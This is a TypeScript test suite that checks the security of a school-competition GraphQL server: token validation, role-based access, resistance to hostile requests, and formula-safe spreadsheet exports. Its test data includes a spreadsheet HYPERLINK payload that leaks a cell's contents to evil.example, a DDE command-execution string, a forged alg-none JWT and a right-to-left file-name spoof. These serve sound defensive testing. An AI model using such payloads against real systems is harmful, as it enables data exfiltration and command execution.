import { randomUUID } from 'node:crypto';
import { loadConfig, mintToken, resolveAuthSecret } from '@qingmiao/api';
import { graphql } from '@qingmiao/schema/graphql';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { serverAudits } from 'graphql-http';
import { decodeJwt, type JWTPayload, SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli-process.ts';
import { codeOf, readAnswer } from '../support/graphql-http.ts';
import { startTestServer, type TestServer } from '../support/in-process-server.ts';
import { TEST_SECRET } from '../support/server-process.ts';

const SECRET = new TextEncoder().encode('in-process-test-secret-0123456789abcdef');

let server: TestServer;
let organizer: string;

async function post(body: string, headers: Record<string, string> = {}) {
  return fetch(`${server.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${organizer}`, ...headers },
    body,
  });
}

beforeAll(async () => {
  server = await startTestServer();
  organizer = await server.token('organizer');
});

afterAll(async () => {
  await server?.stop();
});

describe('authentication', () => {
  const base64url = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const exp = () => Math.floor(Date.now() / 1000) + 600;

  it.each([
    ['no header', undefined],
    ['not a bearer token', 'Basic b3JnYW5pemVyOnNlY3JldA=='],
    ['garbage', 'Bearer not.a.jwt'],
    [
      'alg none',
      `Bearer ${base64url({ alg: 'none', typ: 'JWT' })}.${base64url({ sub: 'x', role: 'organizer', exp: exp() })}.`,
    ],
  ])('refuses %s with 401 UNAUTHENTICATED', async (_name, authorization) => {
    const response = await fetch(`${server.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
      body: JSON.stringify({ query: '{ schools { id } }' }),
    });
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toBe('Bearer');
    expect(codeOf(readAnswer(response.status, await response.text()))).toBe('UNAUTHENTICATED');
  });

  const sign = (claims: Record<string, unknown>, secret = SECRET, expires: number | null = exp()) => {
    const jwt = new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setIssuedAt();
    if (claims.sub) jwt.setSubject(String(claims.sub));
    if (expires !== null) jwt.setExpirationTime(expires);
    return jwt.sign(secret);
  };

  it.each([
    [
      'an expired token',
      () => sign({ sub: 'a', role: 'organizer' }, SECRET, Math.floor(Date.now() / 1000) - 60),
      'expired',
    ],
    [
      'a wrong signature',
      () => sign({ sub: 'a', role: 'organizer' }, new TextEncoder().encode('x'.repeat(40))),
      'invalid',
    ],
    ['a token without exp', () => sign({ sub: 'a', role: 'organizer' }, SECRET, null), 'invalid'],
    ['a token without sub', () => sign({ role: 'organizer' }), 'invalid'],
    ['an unknown role', () => sign({ sub: 'a', role: 'admin' }), 'role'],
    ['a school token without schoolId', () => sign({ sub: 'a', role: 'school' }), 'schoolId'],
  ])('refuses %s', async (_name, make, message) => {
    const response = await server.graphql('{ schools { id } }', undefined, await make());
    expect(response.status).toBe(401);
    expect(codeOf(response)).toBe('UNAUTHENTICATED');
    expect(response.errors?.[0]?.message.toLowerCase()).toContain(message.toLowerCase());
  });

  const now = () => Math.floor(Date.now() / 1000);
  const signClaims = (claims: JWTPayload) =>
    new SignJWT({ sub: 'a', role: 'organizer', ...claims }).setProtectedHeader({ alg: 'HS256' }).sign(SECRET);

  it.each([
    ['a token issued a day ahead', () => ({ iat: now() + 86_400, exp: now() + 86_400 + 600 }), 'issued in the future'],
    ['a token valid only in an hour', () => ({ iat: now(), nbf: now() + 3600, exp: now() + 7200 }), 'not valid yet'],
    ['a token expiring in 9999', () => ({ iat: now(), exp: 253_402_300_799 }), 'lifetime'],
    ['a token living 31 days (over the 30 d cap)', () => ({ iat: now(), exp: now() + 31 * 86_400 }), 'lifetime'],
    ['a token without iat', () => ({ exp: now() + 600 }), 'no "iat" claim'],
  ])('refuses %s', async (_name, claims, message) => {
    const response = await server.graphql('{ schools { id } }', undefined, await signClaims(claims()));
    expect(response.status).toBe(401);
    expect(codeOf(response)).toBe('UNAUTHENTICATED');
    expect(response.errors?.[0]?.message).toContain(message);
  });

  it('accepts iat and nbf within 60 s of clock skew, and a lifetime of exactly the cap', async () => {
    const skewed = await signClaims({ iat: now() + 45, nbf: now() + 45, exp: now() + 600 });
    expect(codeOf(await server.graphql('{ schools { id } }', undefined, skewed))).toBe('OK');
    const issuedAt = now();
    const longest = await signClaims({ iat: issuedAt, exp: issuedAt + 30 * 86_400 });
    expect(codeOf(await server.graphql('{ schools { id } }', undefined, longest))).toBe('OK');
  });

  it('caps lifetimes at QINGMIAO_MAX_TOKEN_LIFETIME, in the server and the CLI', async () => {
    expect(() => loadConfig({ QINGMIAO_MAX_TOKEN_LIFETIME: '8' })).toThrow(
      'QINGMIAO_MAX_TOKEN_LIFETIME must be a duration like 8h or 30d',
    );
    const capped = await startTestServer({ QINGMIAO_MAX_TOKEN_LIFETIME: '8h' });
    try {
      const ninehours = await signClaims({ iat: now(), exp: now() + 9 * 3600 });
      const refused = await capped.graphql('{ schools { id } }', undefined, ninehours);
      expect(refused.status).toBe(401);
      expect(refused.errors?.[0]?.message).toContain('exceeds the maximum of 8h (QINGMIAO_MAX_TOKEN_LIFETIME)');
    } finally {
      await capped.stop();
    }
    const cli = (expires: string) =>
      runCli(['token', '--role', 'viewer', '--sub', 'leader', '--expires', expires], {
        QINGMIAO_AUTH_SECRET: TEST_SECRET,
        QINGMIAO_MAX_TOKEN_LIFETIME: '8h',
      });
    expect(await cli('9h')).toMatchObject({
      code: 1,
      stderr:
        'token: --expires 9h is longer than QINGMIAO_MAX_TOKEN_LIFETIME (8h): the server would refuse the token\n',
    });
    const { exp = 0, iat = 0 } = decodeJwt((await cli('8h')).stdout.trim());
    expect(exp - iat).toBe(8 * 3600);
  });

  it('refuses to start in production without QINGMIAO_AUTH_SECRET', () => {
    const config = loadConfig({ NODE_ENV: 'production', QINGMIAO_DATA_DIR: server.dataDir });
    expect(() => resolveAuthSecret(config)).toThrow(/QINGMIAO_AUTH_SECRET is required/);
    expect(() => loadConfig({ QINGMIAO_AUTH_SECRET: 'short' })).toThrow(/QINGMIAO_AUTH_SECRET/);
  });
});

describe('authorization', () => {
  it('keeps participant names from other schools, viewers and judges; judges score only their campaigns', async () => {
    const ids = {
      a: `sa-${randomUUID().slice(0, 6)}`,
      b: `sb-${randomUUID().slice(0, 6)}`,
      c: `c-${randomUUID().slice(0, 6)}`,
    };
    for (const id of [ids.a, ids.b]) {
      await server.graphql(
        `mutation { registerSchool(input: {id: "${id}", name: "校", kind: PRIMARY, town: "镇"}) { id } }`,
        undefined,
        organizer,
      );
    }
    await server.graphql(
      `mutation { createCampaign(input: {id: "${ids.c}", kind: ESSAY, title: "t", year: 2022, opensAt: "2022-01-01T00:00:00Z", closesAt: "2099-01-01T00:00:00Z"}) { id } }`,
      undefined,
      organizer,
    );
    await server.graphql(`mutation { openCampaign(input: {id: "${ids.c}"}) { id } }`, undefined, organizer);
    const schoolA = await mintToken(SECRET, { sub: 'a', role: 'school', schoolId: ids.a });
    const schoolB = await mintToken(SECRET, { sub: 'b', role: 'school', schoolId: ids.b });
    const submitted = await server.graphql(
      graphql(`mutation Submit($i: SubmitEntryInput!) { submitEntry(input: $i) { id } }`),
      {
        i: {
          submissionId: 'x',
          campaignId: ids.c,
          schoolId: ids.a,
          title: 't',
          participants: [{ name: '小红', role: 'STUDENT' }],
        },
      },
      schoolA,
    );
    const entryId = submitted.data?.submitEntry.id ?? '';

    const own = await server.graphql(
      graphql(`query Own($id: ID!) { entry(id: $id) { participants { name } } }`),
      { id: entryId },
      schoolA,
    );
    expect(own.data?.entry?.participants).toEqual([{ name: '小红' }]);
    expect((await server.graphql(`{ entry(id: "${entryId}") { id } }`, undefined, schoolB)).data).toEqual({
      entry: null,
    });
    const listed = await server.graphql(
      graphql(`query Listed($id: ID!) { campaign(id: $id) { entries { id } } }`),
      { id: ids.c },
      schoolB,
    );
    expect(listed.data?.campaign?.entries).toEqual([]);
    expect(codeOf(await server.graphql(`{ entryHistory(entryId: "${entryId}") { type } }`, undefined, schoolB))).toBe(
      'OK',
    );
    expect((await server.graphql(`{ entryHistory(entryId: "${entryId}") { type } }`, undefined, schoolB)).data).toEqual(
      {
        entryHistory: [],
      },
    );

    const viewer = await server.token('viewer');
    expect(codeOf(await server.graphql(`{ campaign(id: "${ids.c}") { entries { id } } }`, undefined, viewer))).toBe(
      'FORBIDDEN',
    );
    // A judge of another campaign does not even see the entry.
    const judge = await server.token('judge', { sub: 'judge-x' });
    const blind = await server.graphql(`{ entry(id: "${entryId}") { participants { name } } }`, undefined, judge);
    expect(blind.data).toEqual({ entry: null });
    expect(codeOf(blind)).toBe('OK');
    const scored = await server.graphql(
      `mutation { scoreEntry(input: {entryId: "${entryId}", score: 90}) { id } }`,
      undefined,
      judge,
    );
    expect(codeOf(scored)).toBe('FORBIDDEN');
    expect(
      codeOf(await server.graphql(`mutation { closeCampaign(input: {id: "${ids.c}"}) { id } }`, undefined, schoolB)),
    ).toBe('FORBIDDEN');
  });
});

describe('hostile requests', () => {
  it('answers malformed JSON, wrong content types and oversized bodies with clear 4xx', async () => {
    const malformed = await post('{"query": "{ schools { id } }"');
    expect(malformed.status).toBe(400);
    expect(await malformed.json()).toMatchObject({ errors: [{ message: 'Request body is not valid JSON' }] });

    const wrongType = await post('query=%7B%20schools%20%7B%20id%20%7D%20%7D', { 'content-type': 'text/plain' });
    expect(wrongType.status).toBeGreaterThanOrEqual(400);
    expect(wrongType.status).toBeLessThan(500);

    const huge = await post(JSON.stringify({ query: '{ schools { id } }', variables: { pad: 'x'.repeat(400_000) } }));
    expect(huge.status).toBe(413);
    expect(await huge.json()).toMatchObject({ errors: [{ message: 'Request body is too large' }] });

    // Bodies Yoga would read itself, past the limits: the other JSON type is parsed and limited, the rest refused.
    const hugeGraphqlJson = await post(
      JSON.stringify({ query: '{ schools { id } }', variables: { pad: 'x'.repeat(400_000) } }),
      {
        'content-type': 'application/graphql+json',
      },
    );
    expect(hugeGraphqlJson.status).toBe(413);
    const graphqlJson = await post(JSON.stringify({ query: '{ schools { id } }' }), {
      'content-type': 'application/graphql+json',
    });
    expect(graphqlJson.status).toBe(200);
    const form = await post(`query=${encodeURIComponent('{ schools { id } }')}&pad=${'x'.repeat(400_000)}`, {
      'content-type': 'application/x-www-form-urlencoded',
    });
    expect(form.status).toBe(415);
    expect(await form.json()).toMatchObject({
      errors: [{ message: 'Request body must be application/json', extensions: { code: 'BAD_REQUEST' } }],
    });
  });

  it('stops deep, wide and alias-flooded documents before they run', async () => {
    const deep = `{ campaigns { ${'entries { '.repeat(1)}id ${'}'.repeat(1)} ${Array.from({ length: 40 }, (_, i) => `a${i}: schools { id }`).join(' ')} }`;
    const flooded = await server.graphql(deep.replace('{ campaigns { entries { id } ', '{ '), undefined, organizer);
    expect(flooded.errors?.[0]?.message).toMatch(/alias/i);
    const nested = `{ ${'campaigns { entries { '.repeat(1)} id } } ${'__typename '.repeat(5000)} }`;
    const tokens = await server.graphql(nested, undefined, organizer);
    expect(tokens.errors?.[0]?.message).toMatch(/token/i);
  });

  it('refuses variables nested 50,000 deep with 400 before anything recursive runs, and keeps serving', async () => {
    const deep = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;
    for (const [query, type] of [
      ['{ schools { id } }', 'application/json'],
      ['query ($x: [[String]]) { schools { id } }', 'application/json'],
      ['{ schools { id } }', 'application/graphql+json'],
    ] as const) {
      const response = await post(`{"query":${JSON.stringify(query)},"variables":{"x":${deep(50_000)}}}`, {
        'content-type': type,
      });
      expect(response.status).toBe(400);
      expect(await response.json()).toEqual({
        errors: [
          {
            message: '"variables" is nested too deeply (more than 64 levels)',
            extensions: { code: 'BAD_REQUEST', field: 'variables' },
          },
        ],
      });
    }
    const viaGet = await fetch(
      `${server.url}/graphql?query=${encodeURIComponent('{ schools { id } }')}&variables={"x":${deep(5_000)}}`,
      { headers: { authorization: `Bearer ${organizer}` } },
    );
    expect(viaGet.status).toBe(400);
    expect(await viaGet.json()).toMatchObject({
      errors: [{ extensions: { code: 'BAD_REQUEST', field: 'variables' } }],
    });
    const shallow = await post(JSON.stringify({ query: '{ schools { id } }', variables: { x: JSON.parse(deep(60)) } }));
    expect(shallow.status).toBe(200);
    expect(codeOf(await server.graphql('{ schools { id } }', undefined, organizer))).toBe('OK');
  });

  it('refuses names and titles made of invisible or direction-overriding characters, naming the field', async () => {
    const register = (name: string) =>
      server.graphql(
        'mutation ($input: RegisterSchoolInput!) { registerSchool(input: $input) { name } }',
        {
          input: { name, kind: 'PRIMARY', town: '城厢镇' },
        },
        organizer,
      );
    const zeroWidth = await register('\u200B\u200C\u200B');
    expect(zeroWidth.errors?.[0]?.extensions).toEqual({ code: 'BAD_USER_INPUT', field: 'name' });
    expect(zeroWidth.errors?.[0]?.message).toMatch(/^name: .*control or format characters/);
    expect((await register('太仓市实验小学（东校区）')).data).toEqual({
      registerSchool: { name: '太仓市实验小学（东校区）' },
    });

    const campaign = await server.graphql(
      'mutation ($input: CreateCampaignInput!) { createCampaign(input: $input) { id } }',
      {
        input: {
          kind: 'ESSAY',
          title: '征文\u202Egnp.exe',
          year: 2026,
          opensAt: '2026-01-01T00:00:00Z',
          closesAt: '2026-12-31T00:00:00Z',
        },
      },
      organizer,
    );
    expect(campaign.errors?.[0]?.extensions).toEqual({ code: 'BAD_USER_INPUT', field: 'title' });
  });

  it('rate-limits each token', async () => {
    const limited = await startTestServer({ QINGMIAO_RATE_LIMIT: '5' });
    try {
      const token = await limited.token('viewer');
      const statuses = [];
      for (let i = 0; i < 7; i++) statuses.push((await limited.graphql('{ schools { id } }', undefined, token)).status);
      expect(statuses).toEqual([200, 200, 200, 200, 200, 429, 429]);
      // Another token still has its own budget.
      expect((await limited.graphql('{ schools { id } }', undefined, await limited.token('organizer'))).status).toBe(
        200,
      );
    } finally {
      await limited.stop();
    }
  });

  it('hides GraphiQL, introspection and field suggestions in production', async () => {
    const production = await startTestServer({ NODE_ENV: 'production' });
    try {
      const token = await production.token('viewer');
      const page = await fetch(`${production.url}/graphql`, { headers: { accept: 'text/html' } });
      expect(await page.text()).not.toContain('GraphiQL');
      const introspection = await production.graphql('{ __schema { types { name } } }', undefined, token);
      expect(introspection.errors?.[0]?.message).toMatch(/introspection/i);
      const typo = await production.graphql('{ schoolz { id } }', undefined, token);
      expect(typo.errors?.[0]?.message).not.toMatch(/did you mean/i);
      const dev = await server.graphql('{ schoolz { id } }', undefined, organizer);
      expect(dev.errors?.[0]?.message).toMatch(/did you mean/i);
    } finally {
      await production.stop();
    }
  });
});

describe('spreadsheet exports', () => {
  it('neutralise names and towns that a spreadsheet would run as formulas, and keep figures as numbers', async () => {
    const id = `f-${randomUUID().slice(0, 6)}`;
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"实验小学")';
    const town = "+cmd|' /C calc'!A0";
    const registered = await server.graphql(
      'mutation ($input: RegisterSchoolInput!) { registerSchool(input: $input) { id } }',
      { input: { id, name, kind: 'PRIMARY', town } },
      organizer,
    );
    expect(codeOf(registered)).toBe('OK');
    const enrolled = await server.graphql(
      `mutation { recordEnrollment(input: {schoolId: "${id}", year: 2023, students: 300}) { students } }`,
      undefined,
      organizer,
    );
    expect(codeOf(enrolled)).toBe('OK');
    const download = (path: string) =>
      fetch(`${server.url}/reports/${path}`, { headers: { authorization: `Bearer ${organizer}` } });

    const bySchool = parse(Buffer.from(await (await download('participation.csv?year=2023')).arrayBuffer()), {
      bom: true,
      columns: true,
    }) as Record<string, string>[];
    expect(bySchool.find((record) => record.学校代码 === id)).toMatchObject({ 名称: `'${name}`, 在校学生数: '300' });
    const byTown = parse(
      Buffer.from(await (await download('participation.csv?year=2023&groupBy=TOWN')).arrayBuffer()),
      { bom: true, columns: true },
    ) as Record<string, string>[];
    expect(byTown.map((record) => record['镇/区'])).toContain(`'${town}`);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await download('participation.xlsx?year=2023')).arrayBuffer());
    const rowOf = (sheetName: string, key: string) => {
      const sheet = workbook.getWorksheet(sheetName);
      const rows = sheet?.getRows(2, sheet.rowCount - 1) ?? [];
      return rows.find((row) => row.getCell(1).value === key);
    };
    const school = rowOf('按学校', id);
    expect(school?.getCell(2).value).toBe(`'${name}`);
    expect(school?.getCell(8).value).toBe(300);
    expect(rowOf('按镇区', `'${town}`)?.getCell(2).value).toBe(`'${town}`);
  });
});

describe('GraphQL over HTTP compliance (graphql-http audits)', () => {
  it('passes every MUST-level audit', async () => {
    const fetchFn = (input: RequestInfo | URL, init: RequestInit = {}) =>
      fetch(input, {
        ...init,
        headers: { ...Object.fromEntries(new Headers(init.headers)), authorization: `Bearer ${organizer}` },
      });
    const audits = serverAudits({ url: `${server.url}/graphql`, fetchFn });
    const failures: string[] = [];
    for (const audit of audits) {
      const result = await audit.fn();
      if (result.status !== 'ok' && audit.name.startsWith('MUST')) failures.push(`${audit.name}: ${result.reason}`);
    }
    expect(audits.length).toBeGreaterThan(20);
    expect(failures).toEqual([]);
  });
});
